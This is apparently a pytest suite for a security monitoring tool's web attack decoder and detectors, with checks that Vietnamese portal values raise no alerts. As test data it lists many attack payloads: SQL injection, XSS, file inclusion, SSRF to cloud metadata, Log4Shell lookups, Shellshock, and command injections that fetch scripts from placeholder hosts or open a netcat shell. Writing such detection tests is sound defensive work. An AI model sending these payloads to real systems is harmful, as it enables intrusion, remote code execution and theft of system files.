"""Web attack enrichment: decoding tricks, each detector's positives, Vietnamese benign values that
must stay quiet, bounded cost, the parsers' fields and ``soc detect`` with the shipped rules."""

from __future__ import annotations

import json
import time
import unicodedata
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest

from collectors.parsers import webattack
from collectors.parsers.web import ApacheAccessParser, IisParser, W3CDirective
from collectors.parsers.webattack import enrich_web
from collectors.parsers.webdecode import MAX_CHARS, decode_path, decode_query, decode_value
from collectors.parsers.webdetect import resolve_lookups
from soc.cli.main import main
from soc.ecs import Event
from soc.pipeline.sources import ParseContext

ROOT = Path(__file__).resolve().parent.parent
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0 Safari/537.36"


def verdict(target: str, **extra: str) -> Event:
    path, sep, query = target.partition("?")
    ev: Event = {"url.original": target, "url.path": path, **extra}
    if sep:
        ev["url.query"] = query
    return enrich_web(ev)


# --- decoding ----------------------------------------------------------------------------------

@pytest.mark.parametrize(("raw", "decoded"), [
    ("/a%2e%2e%2fb", "/a../b"),  # single
    ("/%252e%252e%252fetc", "/../etc"),  # double
    ("/%25252e%25252e%25252f", "/../"),  # triple
    ("/%u002e%u002e%u2215x", "/..∕x"),  # IIS %u (the division slash stays itself)
    ("/%c0%ae%c0%ae%c0%afetc", "/../etc"),  # overlong 2-byte
    ("/%e0%80%ae%e0%80%ae/etc", "/../etc"),  # overlong 3-byte
    ("/a%00.php", "/a.php"),  # NUL removed
    ("/..\\..\\windows\\win.ini", "/../../windows/win.ini"),  # backslashes
    ("/a/./b//c/.", "/a/b/c"),  # /./ and // collapsed, ../ kept
    ("/a/../b", "/a/../b"),
    ("/tin-tuc/chi-tiet", "/tin-tuc/chi-tiet"),
])
def test_decode_path(raw: str, decoded: str) -> None:
    assert decode_path(raw) == decoded


@pytest.mark.parametrize(("raw", "decoded"), [
    ("Nguy%E1%BB%85n+V%C4%83n+A%27s", "Nguyễn Văn A's"),  # UTF-8, + as space
    ("a%2Bb", "a+b"),  # an encoded + stays a plus
    ("%26lt%3Bscript%26gt%3B", "<script>"),  # entities after percent-decoding
    ("&#60;svg&#x3e;", "<svg>"),
    ("&#60svg", "<svg"),  # numeric entity without ;
    ("a&copyb", "a&copyb"),  # a bare named entity is left alone
    ("%EF%BC%9Cscript%EF%BC%9E", "<script>"),  # fullwidth < > folded (NFKC)
    (quote(unicodedata.normalize("NFD", "Hà Nội")), "Hà Nội"),  # NFD made NFC
    ("%", "%"), ("%zz", "%zz"), ("%u12", "%u12"),  # malformed escapes stay
    ("%ud800", "\ufffd"),  # a lone surrogate is no character
])
def test_decode_value(raw: str, decoded: str) -> None:
    assert decode_value(raw) == decoded


def test_decode_query_splits_names_and_values() -> None:
    whole, names, values, cut = decode_query("q=H%C3%A0+N%E1%BB%99i&page=2&flag&=x")
    assert (whole, names, values, cut) == ("q=Hà Nội&page=2&flag&=x", ["q", "page", "flag", ""],
                                           ["Hà Nội", "2", "flag", "x"], False)


def test_decoding_is_bounded_on_huge_urls() -> None:
    huge = "/x?q=" + "%25" * 400_000 + "&a=" + "a%27" * 100_000  # > 1 MiB of escapes
    started = time.perf_counter()
    ev = verdict(huge)
    assert time.perf_counter() - started < 0.5
    assert len(ev["web.decoded.query"]) <= MAX_CHARS
    assert "query: longer than the decoding cap" in ev["web.attack.evidence"]
    deep = "%" + "25" * 20 + "27"  # twenty layers: decoding stops after four rounds
    assert decode_value(deep) == "%" + "25" * 16 + "27"


# --- detectors -----------------------------------------------------------------------------------

ATTACKS = {
    "sqli": ["/p?id=1%27%20OR%20%271%27=%271", "/p?id=-1+UNION+ALL+SELECT+1,user(),3--+-",
             "/p?id=1;DROP%20TABLE%20users--", "/p?id=1%2527%2520AND%2520SLEEP(5)%2523",
             "/p?id=1%20AnD%201=1", "/p?q=x%22%20or%20%22%22=%22"],
    "xss": ["/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "/s?q=%22%3E%3Csvg%20onload=alert(1)%3E",
            "/s?q=&#60;img src=x onerror=prompt(1)&#62;", "/go?next=%20javascript:alert(1)",
            "/s?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E"],
    "lfi": ["/d?f=../../../../etc/passwd", "/d?f=..%252f..%252f..%252fetc%252fshadow",
            "/d?f=%2fproc%2fself%2fenviron", "/d?f=C:%5cwindows%5cwin.ini",
            "/..%c0%af..%c0%afboot.ini", "/i?page=php://filter/resource=index.php",
            "/i?page=file:///etc/hosts", "/i?p=zip://upload/a.zip%23shell.php",
            "/d?f=....//....//....//etc/passwd"],
    "traversal": ["/d?f=..%2f..%2f..%2fapp.db", "/static/..%5c..%5c..%5cweb.xml.bak"],
    "rfi": ["/i?page=http://198.51.100.7/x.txt?", "/i?include=https://evil.example/shell.php",
            "/i?file=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2B",
            "/i?page=expect://ls"],
    "cmdi": ["/p?h=1.1.1.1;id", "/p?h=1.1.1.1%7C%7Cwhoami", "/p?h=%60uname%20-a%60",
             "/p?h=$(curl%20http://x.example/s.sh)", "/p?h=x%26%26ipconfig%20/all",
             "/p?h=1;cat${IFS}/etc/passwd", "/p?h=x|powershell%20-enc%20AAAA",
             "/p?h=x%0Awget%20http://x.example/a", "/p?h=a%20%26%20ipconfig%20/all"],
    "ssti": ["/s?n={{7*7}}", "/s?n={{config.items()}}", "/s?n=${7*7}",
             "/s?n=%24%7BT(java.lang.Runtime).getRuntime().exec('id')%7D",
             "/s?n=<%25%3D%207*7%20%25>", "/s?n={%25%20import%20os%20%25}",
             "/s?n=#{7*7}", "/s?n={{''.__class__.__mro__}}"],
    "jndi": ["/s?q=${jndi:ldap://x.example/a}", "/s?q=${${lower:j}ndi:rmi://x/a}",
             "/s?q=${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
             "/s?q=%24%7B%24%7Benv%3AX%3A-j%7Dndi%3Adns%3A%2F%2Fx%7D",
             "/s?q=${jNdI:LdAp://x/a}"],
    "ssrf": ["/f?u=http://169.254.169.254/latest/", "/f?u=http://metadata.google.internal/",
             "/f?u=http://100.100.100.200/latest/", "/f?u=http://[::ffff:a9fe:a9fe]/",
             "/f?u=http://2852039166/", "/f?u=http://0xA9FEA9FE/", "/f?u=http://0251.0376.0251.0376/",
             "/f?u=http://169.254.43518/", "/f?u=gopher://127.0.0.1:6379/_x"],
    "deserialization": ["/a?d=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "/a?d=aced00057372",
                        '/a?d=O:8:"stdClass":1:{s:1:"a";i:1;}', "/a?d=a:2:{i:0;s:1:\"x\";}",
                        "/a?s=AAEAAAD%2F%2F%2F%2F%2FAQAAAAAAAAA"],
}


@pytest.mark.parametrize(("cls", "target"), [(c, t) for c, ts in ATTACKS.items() for t in ts])
def test_attack_is_flagged(cls: str, target: str) -> None:
    ev = verdict(target)
    assert cls in ev["web.attack.classes"], ev.get("web.attack.evidence")
    assert ev["web.attack.score"] >= 4


# Shapes libinjection misses, covered as the Core Rule Set covers them (collectors/parsers/
# webshapes.py): each is a class of payload, written here in a form of our own.
SHAPES = {
    "sqli": ['/p?u=admin%22)%20or%20(%221%22=%221', "/p?id=1%20or%201=1--",
             "/p?id=1%20and%20extractvalue(1,concat(0x7e,version()))",
             "/p?id=1)%20or%20benchmark(9000000,md5(1))%23", "/p?id=1;waitfor%20delay%20'0:0:5'--",
             "/p?id=1;%20drop%20table%20hoso--", "/p?id=uni/**/on%20sel/**/ect%20matkhau",
             "/p?q=x%20and%201=(select%20count(*)%20from%20information_schema.tables)",
             "/p?id=%22))%20or%20pg_sleep(5)--"],
    "xss": ["/s?q=%3Cx%20onpointerenter=alert(1)%3E", "/s?q=%3Cscr%3Cscript%3Eipt%3Ealert(1)",
            "/s?q=%3Ca%20href=%22jav%26Tab;ascript%26colon;alert(1)%22%3Ex",
            "/s?q=%3Cimg%20src=%22jav%26%23x0A;ascript:alert(1)%22%3E",
            "/s?q=%3Cdiv%20style=%22width:expression(alert(1))%22%3E",
            "/s?q=%3Ciframe%20srcdoc=%22x%22%3E", "/s?q=%5C%22;alert(document.domain);//"],
    "lfi": ["/d?f=/etc/nginx/nginx.conf", "/d?f=/proc/self/status", "/d?f=c:%5Cphp%5Cphp.ini",
            "/d?f=/usr/local/apache2/logs/access_log", "/d?f=..%2Fconfig.php",
            "/d?f=..%2F.htpasswd", "/d?f=%2e%68%74%61%63%63%65%73%73",
            "/d?f=C:%5CWINDOWS%5CRepair%5CSAM"],
    "cmdi": ["/p?h=1%5Cnid%5Cn", "/p?h=x%0D%0Acat%20/etc/passwd", "/p?h=cat%20/etc/hosts",
             "/p?h=%22%26%20ping%20-n%2030%20127.0.0.1%20%26%22", "/p?h=/usr/bin/id",
             "/p?h=nc%20-lvp%204444%20-e%20/bin/sh", "/p?h=net%20user%20tester%20P4ss%20/add",
             "/p?h=x%7Cusr/bin/id"],
    "code": ["/p?x=%3C%3Fphp%20echo%201;%20%3F%3E", "/p?x=phpinfo()",
             "/p?x=%7B%24%7Bsleep(3)%7D%7D", "/p?x=%24%7B%40print(md5(1))%7D", "/p?x=;system('id')",
             "/p?x=%24_SERVER%5B'X'%5D", "/p?x=%3C!--%23include%20virtual=%22/etc/passwd%22--%3E",
             "/p?x=perl%20-e%20'print%201'",
             "/index.php/component/%3Bprint(md5(1))%3B/users"],
}


@pytest.mark.parametrize(("cls", "target"), [(c, t) for c, ts in SHAPES.items() for t in ts])
def test_shapes_beyond_libinjection_are_strong(cls: str, target: str) -> None:
    ev = verdict(target)
    assert cls in ev["web.attack.classes"], ev.get("web.attack.evidence")
    assert ev["web.attack.strong"] is True, ev.get("web.attack.evidence")


@pytest.mark.parametrize("value", ["(3*4)/2", "5 > 3 && 2 < 4", "max(1, 2)", "if (a > b) then c"])
def test_libinjection_on_arithmetic_or_call_text_is_a_notice(value: str) -> None:
    ev = verdict(f"/calc?expr={quote(value, safe='')}")
    assert (ev["web.attack.classes"], ev["web.attack.score"], ev["web.attack.strong"]) == (
        ["sqli"], 2, False)


@pytest.mark.parametrize(("value", "level"), [("/etc/hostname.eth0", 5), ("/var/www/html/x", 4),
                                               ("/tin-tuc/chi-tiet/12", 0), ("c:\\boot.ini", 5)])
def test_absolute_paths_into_system_directories(value: str, level: int) -> None:
    ev = verdict(f"/d?f={quote(value, safe='')}")
    assert ev.get("web.attack.score", 0) == level, ev.get("web.attack.evidence")


BENIGN_FILE = ROOT / "tests" / "data" / "web_benign_values.txt"


def test_portal_values_from_the_benign_file_raise_no_strong_signal() -> None:
    values = [v for v in BENIGN_FILE.read_text(encoding="utf-8").splitlines()
              if v and not v.startswith("#")]
    assert len(values) >= 300
    loud = []
    for value in values:
        for encoded in (quote_plus(value), quote(value, safe="")):
            ev = verdict(f"/tim-kiem?q={encoded}&trang=2")
            if ev.get("web.attack.strong") or ev.get("web.attack.score", 0) >= 5:
                loud.append((value, ev["web.attack.evidence"]))
    assert loud == []


def test_sqli_keeps_the_fingerprint_and_scores() -> None:
    ev = verdict("/p?id=1%27%20OR%20%271%27=%271&q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert ev["web.attack.sqli.fingerprint"] == "s&sos"
    assert ev["web.attack.classes"] == ["sqli", "xss"]
    assert ev["web.attack.score"] == 10 and ev["web.attack.strong"] is True
    assert ev["web.attack.evidence"] == ["param id: sqli fingerprint s&sos",
                                         "param q: xss <script>alert(1)</script>"]


def test_headers_carry_jndi_and_shellshock() -> None:
    ev = verdict("/", **{"user_agent.original": "${${lower:j}ndi:ldap://x/a}"})
    assert ev["web.attack.classes"] == ["jndi"]
    ev = verdict("/cgi-bin/a.cgi", **{"user_agent.original": "() { :; }; /bin/bash -c id"})
    assert ev["web.attack.classes"] == ["cmdi"]


def test_nested_lookups_are_resolved() -> None:
    assert resolve_lookups("${${lower:J}${upper:n}di:x}") == "\x01jndi:x\x02".replace("j", "J", 1)
    assert resolve_lookups("${env:NOPE:-a}${::-b}") == "ab"


def test_weak_signals_score_below_the_threshold() -> None:
    ev = verdict("/.env")
    assert (ev["web.attack.classes"], ev["web.attack.score"], ev["web.attack.strong"]) == (
        ["lfi"], 4, False)
    ev = verdict("/a%00.jpg")
    assert (ev.get("web.attack.classes", []), ev.get("web.attack.score", 0)) == ([], 3)


# --- benign values -------------------------------------------------------------------------------

BENIGN = [
    "Nguyễn Văn A's", "Trần Thị Bích Ngọc", "Lê Văn C & cộng sự", "thủ tục cấp giấy phép xây dựng",
    "Số 12, ngõ 34, phố Huế, Hà Nội", "Phường 1; Quận 3; TP. Hồ Chí Minh", "tra cứu hồ sơ",
    "Hướng dẫn cấu hình web.config trên IIS", "mẫu đơn \"xin việc\"", "giá xăng hôm nay?",
    "Cát Bà", "cat ba", "O'Brien and O'Reilly", "rock 'n' roll", "select the best option",
    "union of workers", "drop box", "2024-01-01", "01/02/2024", "2024-01-01T10:00:00+07:00",
    "nguyenvana@gmail.com", "0912 345 678", "+84 912 345 678", "(028) 3829 1234",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fw",
    "aGVsbG8gd29ybGQsIHhpbiBjaGFv", '{"page": 2, "sort": "name", "q": "Hà Nội"}',
    '{"filters":[{"field":"status","op":"eq","value":"approved"}]}', "[1,2,3]", "id desc",
    "IwAR2xYz_abc-123", "google", "cpc", "spring_sale_2024", "-1", "50% giảm giá", "100.000đ",
    "Quyết định số 123/QĐ-UBND", "Nghị định 13/2023/NĐ-CP", "Công văn số 45/CV-STTTT",
    "x < y and y > z", "I <3 Việt Nam", "tom & jerry", "R&D; more info",
    "https://dichvucong.gov.vn/p/home/dvc-trang-chu.html", "../images/logo.png",
    "mã hồ sơ: 000.00.12.H56-240101-0001", "Hỏi: làm sao để đổi CMND sang CCCD?",
    "học sinh | sinh viên", "giá: 1.000 - 2.000", "tìm kiếm; sắp xếp", "#hashtag", "@mention",
    "ls", "id", "whoami", "echo", "ping", "{name}", "{{name}}", "${name}", "#{page}",
    "192.168.1.1", "1 or 2 rooms", "and/or", "Phòng 101 - Tầng 1", "Bà Rịa – Vũng Tàu",
    "Kết quả: 5*3=15", "3 + 4 = 7", "tuổi >= 18", "it's 5 o'clock", "O:8 giờ sáng", "a:2 b:3",
    "hồ sơ -- đã duyệt", "Nguyễn Văn A's; Trần B's", "Tài liệu | PDF", "ảnh & video",
    "giờ làm việc: 7h30 - 11h30", "Điều 5 - Khoản 2", "Đắk Lắk", "Thừa Thiên–Huế",
]
NAMES = ["q", "tu_khoa", "utm_source", "utm_campaign", "fbclid", "ho_ten", "dia_chi", "page"]


def benign_targets() -> list[str]:
    out = []
    for value in BENIGN:
        for form in ("NFC", "NFD"):
            text = unicodedata.normalize(form, value)
            for encoded in (quote_plus(text), quote(text, safe="")):
                out += [f"/tim-kiem?{name}={encoded}&trang=2" for name in NAMES]
    return out


def test_vietnamese_and_everyday_values_raise_nothing() -> None:
    loud = [(t, ev["web.attack.evidence"]) for t in benign_targets()
            if (ev := verdict(t)).get("web.attack.score", 0) >= 5
            or ev.get("web.attack.strong", False)]
    assert loud == []


def test_benign_values_carry_no_strong_class() -> None:
    classes = {c for t in benign_targets() for c in verdict(t).get("web.attack.classes", [])}
    assert classes <= {"traversal", "rfi"}  # ../images, a portal URL: weak signals only


# --- parsers and end to end ----------------------------------------------------------------------

def access_line(target: str, second: int = 1, agent: str = UA) -> str:
    return (f'203.0.113.9 - - [24/Nov/2026:10:00:{second:02d} +0700] "GET {target} HTTP/1.1" '
            f'200 512 "-" "{agent}"')


def test_access_parsers_enrich_every_event() -> None:
    ctx = ParseContext(tz=UTC, now=datetime(2026, 11, 25, tzinfo=UTC), source="t")
    ev = ApacheAccessParser().parse(access_line("/van-ban?so=12%2FQ%C4%90&x=%3Cb%3E"), ctx)
    assert "web.decoded.path" not in ev  # decoding left it as url.path has it
    assert ev["web.decoded.query"] == "so=12/QĐ&x=<b>"
    assert ev["web.decoded.values"] == ["12/QĐ", "<b>"]
    assert ev["web.decoded.names"] == ["so", "x"]
    assert (ev.get("web.attack.classes", []), ev.get("web.attack.strong", False)) == ([], False)
    iis = IisParser()
    with pytest.raises(W3CDirective):
        iis.parse("#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status", ctx)
    ev = iis.parse("2026-11-24 03:00:01 203.0.113.9 GET /a.aspx id=1%27%20or%201=1-- 200", ctx)
    assert ev["web.attack.classes"] == ["sqli"] and ev["web.attack.strong"] is True


def test_soc_detect_with_the_shipped_rules(tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    attacks = [t for ts in ATTACKS.values() for t in ts if not t.startswith("/static")]
    lines = [access_line(t.replace(" ", "%20"), i % 60) for i, t in enumerate(attacks)]
    benign = [access_line(t, 1) for t in benign_targets()[::7]]
    log = tmp_path / "access.log"
    log.write_text("\n".join(lines + benign) + "\n", encoding="utf-8")
    (tmp_path / "soc.yml").write_text("data_dir: data\ntimezone: UTC\n", encoding="utf-8")
    code = main(["-c", str(tmp_path / "soc.yml"), "detect", "-r", str(ROOT / "rules" / "web"),
                 "--nl", str(log)])
    found = [json.loads(x) for x in capsys.readouterr().out.splitlines()]
    assert code == 10
    ours = [f for f in found if f["title"].endswith(("(libinjection)", "In A Request",
                                                     "In A Request Parameter"))
            or f["title"].startswith("Server-Side Request Forgery")]
    originals = {f["event"]["event.original"] for f in ours}
    assert not originals & set(benign)
    assert len(originals) >= 0.9 * len(lines)


QUIET = ["/", "/tin-tuc/chi-tiet?id=123", "/index.php?option=com_content&id=5&flag",
         "/api/v1/tra-cuu?ma=HS-0042&trang=2", "/static/js/app.12.js", "/a?=x&&b=",
         "/images/banner-1.jpg?v=20240101"]


@pytest.mark.parametrize("target", QUIET)
def test_quiet_requests_get_the_same_fields_as_the_full_treatment(
        target: str, monkeypatch: pytest.MonkeyPatch) -> None:
    fast = verdict(target)
    monkeypatch.setattr(webattack, "_quiet", lambda event, path, query: False)
    assert verdict(target) == fast


@pytest.mark.parametrize(("target", "classes", "path"), [
    ("/download?f=/etc/passwd", ["lfi"], "/download"), ("/.git/config", ["lfi"], "/.git/config"),
    ("/a//b", [], "/a/b"), ("/x?d=rO0ABXNyABFqYXZh", ["deserialization"], "/x"),
    ("/x?id=1--", ["sqli"], "/x"), ("/a/../../b", ["traversal"], "/a/../../b")])
def test_words_and_shapes_leave_the_quiet_path(target: str, classes: list[str], path: str) -> None:
    ev = verdict(target)
    decoded = ev.get("web.decoded.path", ev["url.path"])  # present only when decoding changed it
    assert (ev.get("web.attack.classes", []), decoded) == (classes, path)


def test_a_quiet_request_carries_no_verdict_fields() -> None:
    """Most requests are quiet: their parameters listed, but no copy of an unchanged path or
    query and no empty web.attack.* (fields the store and the rules would pay for)."""
    for target in ("/tin-tuc/chi-tiet?id=123&page=2", "/tra-cuu?q=Nguy%E1%BB%85n+V%C4%83n+A",
                   "/dich-vu-cong/ho-so/4501"):
        ev = verdict(target)
        assert "web.decoded.path" not in ev
        # the decoded query, its names and values only when decoding changed it
        assert ("web.decoded.query" in ev) == ("web.decoded.values" in ev) == ("%" in target)
        assert not [k for k in ev if k.startswith("web.attack.")], (target, ev)


@pytest.mark.parametrize("value", [
    "http://127.0.0.1:8080/manager/html", "http://[::1]:6379/", "http://0x7f000001/",
    "http://2130706433/admin", "http://localhost:2375/containers/json", "//127.1/", "http://0/"])
def test_a_url_back_to_the_server_is_ssrf(value: str) -> None:
    ev = verdict("/proxy?url=" + quote(value, safe=""))
    assert "ssrf" in ev["web.attack.classes"] and ev["web.attack.strong"] is True


@pytest.mark.parametrize("value", [
    "https://dichvucong.gov.vn/p/home/dvc-trang-chu.html", "http://192.168.10.5/van-ban/12",
    "https://www.google.com/search?q=127.0.0.1", "http://10.0.0.1@portal.example.gov.vn/"])
def test_other_urls_are_not_ssrf(value: str) -> None:
    ev = verdict("/chuyen-huong?return_url=" + quote(value, safe=""))
    assert "ssrf" not in ev.get("web.attack.classes", [])
